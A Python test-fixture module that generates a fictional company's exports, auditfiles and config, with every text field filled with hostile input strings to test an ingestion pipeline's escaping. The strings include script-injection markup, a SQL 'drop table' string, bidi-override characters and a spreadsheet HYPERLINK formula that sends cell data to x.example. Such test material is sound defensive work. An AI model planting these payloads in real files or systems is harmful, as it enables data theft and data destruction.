"""A company whose every text tries to be something else: in its auditfiles, in every column of every entity, in company.toml
and in what its owner writes."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Iterator
from datetime import date
from itertools import cycle
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import xlsxwriter
from lxml import etree  # pyright: ignore[reportAttributeAccessIssue]

from ingestion import demo
from ingestion.sources.company import slug
from ingestion.sources.files.entities import ENTITIES, Column

# Markup, handlers, templates, formulas, quotes, SQL, comments, texts that turn the line around, and emoji.
MARKUP = "<script>alert('x')</script><img src=x onerror=alert(1)>\"' onfocus=alert(2) {{ 7 * 7 }}"
TEXTS = (
    f"=1+1{MARKUP}",
    '=HYPERLINK("http://x.example/?"&A1,"x")|cmd',
    "+1-1@SUM(A1)';drop table orders;--</td></style><!--]]>",
    "a\u202eb\u2066c\u200fd \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 \U0001f600\u200d\U0001f525",
    "[x](javascript:alert(3)) `x` **x** \\u0027 &lt;b&gt; %3Cb%3E",
    "x" * 10_000,
)
_UNSEEN = dict.fromkeys(map(ord, "\u202e\u2066\u200f"))


def shown(text: str) -> str:
    """What a page says of one of the texts: what turns a line around is taken out, what is read from the right kept together."""
    read = re.sub("[\u0590-\u06ff]+ [\u0590-\u06ff]+", lambda found: f"\u2068{found[0]}\u2069", text.translate(_UNSEEN))
    return " ".join(read.split())


# A column that takes a few words only, and the word it gets; anything else is refused.
WORDS = {
    ("order_lines", "line_type"): "sale",
    ("deals", "status"): "won",
    ("survey_responses", "survey"): "csat",
    ("donations", "kind"): "gift",
    ("function_results", "category"): "raised_income",
    ("open_items", "kind"): "receivable",
}
CURRENCY = "EUR"
_MONTHS = [date(2024, 12, 1), *(date(2025, month, 1) for month in range(1, 13))]
_A_MONTH = len(TEXTS)


def _cell(entity: str, name: str, column: Column, number: int, word: Callable[[str, str], str | None]) -> str:
    """A value for the `number`th row of an entity."""
    month = _MONTHS[number // _A_MONTH]
    given = word(entity, name)
    if given is not None:
        return given
    match column.kind:
        case "text":
            text = TEXTS[number % len(TEXTS)]
            # What numbers a row says which row, but for somebody who comes back.
            return f"{number} {text}" if name.endswith("_id") and name not in _PEOPLE else text
        case "timestamp":
            return f"{month:%Y-%m}-{_DAY.get(name, 10)}T12:00:00"
        case "date":
            return "" if name in ("ended_on", "closed_on") else f"{month:%Y-%m}-{_DAY.get(name, 10)}"
        case "decimal":
            return f"{10 + number % 7}.50"
        case "integer":
            return "4" if name == "score" else str(100 + number)
        case "boolean":
            return "true"


_PEOPLE = {"customer_id", "donor_id", "visitor_id"}
_DAY = {
    "first_responded_at": 11,
    "resolved_at": 12,
    "closed_at": 12,
    "activated_at": 11,
    "converted_at": 12,
    "month_on": 28,
}


def words(entity: str, name: str) -> str | None:
    """The word a column that takes a few words only gets; None for a text."""
    return CURRENCY if name == "currency" else WORDS.get((entity, name))


def spoilt(entity: str, name: str) -> str | None:
    """A text where only a few words may stand."""
    return TEXTS[0] if (entity, name) in WORDS else words(entity, name)


def _rows(entity: str, word: Callable[[str, str], str | None]) -> Iterator[list[str]]:
    for number in range(len(_MONTHS) * _A_MONTH):
        yield [_cell(entity, name, column, number, word) for name, column in ENTITIES[entity].items()]


def _csv(file: Path, names: list[str], rows: list[list[str]]) -> None:
    with file.with_suffix(".csv").open("w", encoding="utf-8", newline="") as opened:
        csv.writer(opened).writerows([names, *rows])


def _excel(file: Path, names: list[str], rows: list[list[str]]) -> None:
    with xlsxwriter.Workbook(
        file.with_suffix(".xlsx"), {"strings_to_formulas": False, "strings_to_urls": False}
    ) as book:
        sheet = book.add_worksheet()
        for place, row in enumerate([names, *rows]):
            for column, value in enumerate(row):
                sheet.write_string(place, column, value)


def _parquet(file: Path, names: list[str], rows: list[list[str]]) -> None:
    columns = [pa.array(column, pa.string()) for column in zip(*rows, strict=True)]
    pq.write_table(pa.Table.from_arrays(columns, names=names), file.with_suffix(".parquet"))


_FORMATS = {"csv": (_csv, "csv"), "excel": (_excel, "xlsx"), "parquet": (_parquet, "parquet")}


def write_files(inbox: Path, word: Callable[[str, str], str | None] = words) -> list[str]:
    """An export of every entity, each in one of the formats; what company.toml says of them."""
    declared = []
    for entity, kind in zip(ENTITIES, cycle(_FORMATS), strict=False):
        write, suffix = _FORMATS[kind]
        names = list(ENTITIES[entity])
        # The heads of the columns are text too.
        heads = [f"{name} {TEXTS[2]}" for name in names]
        write(inbox / entity, heads, list(_rows(entity, word)))
        mapped = ", ".join(
            f"{name} = {json.dumps(head, ensure_ascii=False)}" for name, head in zip(names, heads, strict=True)
        )
        declared.append(
            f'[[files]]\nname = "{entity}"\nentity = "{entity}"\npattern = "{entity}.{suffix}"\n'
            f'format = "{kind}"\nkey = {json.dumps([name for name in names[:1] if name.endswith("_id")])}\n'
            f"columns = {{{mapped}}}"
        )
    return declared


# Elements of an auditfile that hold a number, a date or a code of the format; every other text may be anything.
_FORMAT = re.compile(
    r"fiscalYear|.*[dD]ate.*|curCode|RGScode|RGSVersion|leadReference|acc(ID|Tp)|jrnTp|amnt(Tp)?|linesCount|total(Debit|Credit)|"
    r"periodNumber|nr|custSup(Tp|ID)|trDt|companyIdent|companyName|Commercenr"
)


def write_auditfiles(inbox: Path, name: str) -> None:
    """The books of a demo company of which every description, name, address and number of an account is a text of ours."""
    demo.write(inbox / "books", profile="services", size=0.1)
    texts = cycle(TEXTS[:-1])
    for file in sorted((inbox / "books").glob("*.xaf")):
        tree = etree.parse(str(file))
        seen: set[str] = set()
        for element in tree.iter():
            tag = etree.QName(element).localname
            if tag in ("accID", "custSupID"):
                element.text = f"{element.text} {TEXTS[0]}"
            elif tag == "companyName":
                element.text = name
            elif len(element) == 0 and not _FORMAT.fullmatch(tag):
                element.text = next(texts) if tag in seen else TEXTS[-1]
                seen.add(tag)
        tree.write(str(inbox / file.name), encoding="utf-8", xml_declaration=True)
    for left in sorted((inbox / "books").rglob("*"), reverse=True):
        left.rmdir() if left.is_dir() else left.unlink()
    (inbox / "books").rmdir()


def _owners_files(inbox: Path, company: str) -> None:
    """What the owner decides in files beside company.toml, and writes."""
    sheets = {
        "targets": [
            ["company_id", "metric", "grain", "period", "scope", "type", "target_value", "reason"],
            *([company, "revenue", "year", str(year), "total", "cumulative", "900000", text] for year, text in ((2024, TEXTS[0]), (2025, TEXTS[3]))),
        ],
        "scenarios": [
            ["company_id", "scenario", "place", "label_nl", "label_en", "driver", "change"],
            [company, "best", "1", TEXTS[0], TEXTS[3], "revenue_pct", "0.10"],
            [company, "worst", "2", TEXTS[1], TEXTS[2], "revenue_pct", "-0.10"],
        ],
        "covenants": [
            ["company_id", "covenant", "place", "lender", "label_nl", "label_en", "metric", "version", "type", "limit_value", "tested"],
            [company, "solvency", "1", f"Streekbank {TEXTS[3]}", TEXTS[0], TEXTS[1], "solvency", "1", "floor", "0.35", "quarter"],
        ],
    }  # fmt: skip
    for name, rows in sheets.items():
        text = io.StringIO()
        csv.writer(text).writerows(rows)
        (inbox / f"{name}.csv").write_text(text.getvalue(), encoding="utf-8")
    (inbox / "report").mkdir()
    for language in ("nl", "en"):
        said = "\n\n".join(text.replace("x" * 10_000, "x" * 2_000) for text in TEXTS)
        notes = "\n\n".join(f"## {subject}\n\n{said}" for subject in ("revenue", "risks", "quotes"))
        (inbox / "report" / f"notes.{language}.md").write_text(f"# 2025-12\n\n{notes}\n", encoding="utf-8")


def write(inbox: Path) -> None:
    """The inbox of the company."""
    inbox.mkdir(exist_ok=True)
    name = f"Zonneveld B.V. {TEXTS[0]} {TEXTS[3]}"
    write_auditfiles(inbox, name)
    _owners_files(inbox, slug(name))
    declare(inbox, name, write_files(inbox))


def declare(inbox: Path, name: str, files: list[str]) -> None:
    """Write company.toml."""
    about = (
        f'[company]\nname = {json.dumps(name, ensure_ascii=False)}\nprofile = "ecommerce"\n[kpis.owners]\nrevenue = {json.dumps(TEXTS[3], ensure_ascii=False)}\n'
        '[report]\neditions = ["management", "investor_monthly", "bank_monthly"]'
    )
    (inbox / "company.toml").write_text("\n\n".join([about, *files]), encoding="utf-8")
